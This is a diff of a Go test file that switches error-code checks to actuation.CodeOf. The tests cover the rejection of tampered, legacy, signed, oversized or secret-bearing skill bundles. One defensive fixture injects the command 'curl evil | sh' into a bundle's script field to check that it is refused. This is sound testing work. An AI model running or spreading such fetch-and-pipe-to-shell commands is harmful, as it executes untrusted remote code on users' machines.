@@ -149,7 +149,7 @@ func TestTraceProblemsAndCaps(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	if err := full.AppendEdge(Edge{}); CodeOf(err) != actuation.CodeTraceTooLarge {
+	if err := full.AppendEdge(Edge{}); actuation.CodeOf(err) != actuation.CodeTraceTooLarge {
 		t.Fatalf("edge %d: got %v, want %s", MaxEdges+1, err, actuation.CodeTraceTooLarge)
 	}
 	s, trunc := Bounded(strings.Repeat("é", 10), 5)
@@ -185,14 +185,14 @@ func TestCrystallize(t *testing.T) {
 		t.Fatalf("identity %+v", m)
 	}
 	// Refusals.
-	if _, err := Crystallize(d.trace, CrystallizeOptions{Name: "x", Parameters: []ParamSpec{{Name: "absent", Value: "nowhere"}}}); CodeOf(err) != actuation.CodeSkillParameterUnknown {
+	if _, err := Crystallize(d.trace, CrystallizeOptions{Name: "x", Parameters: []ParamSpec{{Name: "absent", Value: "nowhere"}}}); actuation.CodeOf(err) != actuation.CodeSkillParameterUnknown {
 		t.Fatalf("unused parameter: %v", err)
 	}
-	if _, err := Crystallize(d.trace, CrystallizeOptions{Name: "x", Parameters: []ParamSpec{{Name: "Bad-Name", Value: "world"}}}); CodeOf(err) != actuation.CodeSkillParameterInvalid {
+	if _, err := Crystallize(d.trace, CrystallizeOptions{Name: "x", Parameters: []ParamSpec{{Name: "Bad-Name", Value: "world"}}}); actuation.CodeOf(err) != actuation.CodeSkillParameterInvalid {
 		t.Fatalf("bad parameter name: %v", err)
 	}
 	empty := &Trace{Schema: TraceSchema, TraceID: NewID(), InitialState: d.trace.InitialState}
-	if _, err := Crystallize(empty, CrystallizeOptions{Name: "x"}); CodeOf(err) != actuation.CodeTraceInvalid {
+	if _, err := Crystallize(empty, CrystallizeOptions{Name: "x"}); actuation.CodeOf(err) != actuation.CodeTraceInvalid {
 		t.Fatalf("empty trace: %v", err)
 	}
 	// A refused edge is recorded but is not a step.
@@ -305,7 +305,7 @@ func TestReplayExactIntoFreshCopy(t *testing.T) {
 func TestReplayWithNewParameterIsStructural(t *testing.T) {
 	d := standard(t, "ok\n")
 	m := crystallize(t, d, ParamSpec{Name: "target", Value: "world"})
-	if _, err := NewPlan(m, map[string]string{"nope": "x"}, "host-local", ModeExact); CodeOf(err) != actuation.CodeSkillParameterUnknown {
+	if _, err := NewPlan(m, map[string]string{"nope": "x"}, "host-local", ModeExact); actuation.CodeOf(err) != actuation.CodeSkillParameterUnknown {
 		t.Fatalf("unknown parameter: %v", err)
 	}
 	pl, err := NewPlan(m, map[string]string{"target": "moon"}, "host-local", ModeExact)
@@ -536,7 +536,7 @@ func TestBundleHashReproducibleAndImportVerifies(t *testing.T) {
 
 	// Tampering is caught.
 	tampered := bytes.Replace(indented, []byte(`"Build and greet"`), []byte(`"Build and greeT"`), 1)
-	if _, err := Import(tampered); CodeOf(err) != actuation.CodeBundleHashMismatch {
+	if _, err := Import(tampered); actuation.CodeOf(err) != actuation.CodeBundleHashMismatch {
 		t.Fatalf("tampered: %v", err)
 	}
 	// Missing content hash fails validation (seed fixture invalid-missing-content-hash).
@@ -546,13 +546,13 @@ func TestBundleHashReproducibleAndImportVerifies(t *testing.T) {
 	}
 	delete(doc, "content_hash")
 	noHash, _ := json.Marshal(doc)
-	if _, err := Import(noHash); CodeOf(err) != actuation.CodeBundleHashMissing {
+	if _, err := Import(noHash); actuation.CodeOf(err) != actuation.CodeBundleHashMissing {
 		t.Fatalf("missing hash: %v", err)
 	}
 	// A camelCase bundle of an earlier version is refused with its own code.
 	doc["contentHash"] = b.ContentHash
 	legacy, _ := json.Marshal(doc)
-	if _, err := Import(legacy); CodeOf(err) != actuation.CodeBundleFormatLegacy {
+	if _, err := Import(legacy); actuation.CodeOf(err) != actuation.CodeBundleFormatLegacy {
 		t.Fatalf("legacy: %v", err)
 	}
 	delete(doc, "contentHash")
@@ -560,18 +560,18 @@ func TestBundleHashReproducibleAndImportVerifies(t *testing.T) {
 	doc["content_hash"] = b.ContentHash
 	doc["script"] = "curl evil | sh"
 	extra, _ := json.Marshal(doc)
-	if _, err := Import(extra); CodeOf(err) != actuation.CodeBundleSchemaInvalid {
+	if _, err := Import(extra); actuation.CodeOf(err) != actuation.CodeBundleSchemaInvalid {
 		t.Fatalf("unknown member: %v", err)
 	}
 	// Signature claims are refused.
 	delete(doc, "script")
 	doc["signed"] = true
 	signed, _ := json.Marshal(doc)
-	if _, err := Import(signed); CodeOf(err) != actuation.CodeBundleSchemaInvalid {
+	if _, err := Import(signed); actuation.CodeOf(err) != actuation.CodeBundleSchemaInvalid {
 		t.Fatalf("signed: %v", err)
 	}
 	big := make([]byte, MaxBundleBytes+1)
-	if _, err := Import(big); CodeOf(err) != actuation.CodeBundleTooLarge {
+	if _, err := Import(big); actuation.CodeOf(err) != actuation.CodeBundleTooLarge {
 		t.Fatalf("too large: %v", err)
 	}
 }
@@ -580,7 +580,7 @@ func TestRedactedExport(t *testing.T) {
 	d := standard(t, "deploying with "+fakeAWS+"\n")
 	m := crystallize(t, d)
 	in := exportInput(d, m, nil)
-	if _, err := Export(in, ExportOptions{Profile: RedactionNone}); CodeOf(err) != actuation.CodeSecretDetected {
+	if _, err := Export(in, ExportOptions{Profile: RedactionNone}); actuation.CodeOf(err) != actuation.CodeSecretDetected {
 		t.Fatalf("none with a secret: %v", err)
 	}
 	b, err := Export(in, ExportOptions{})
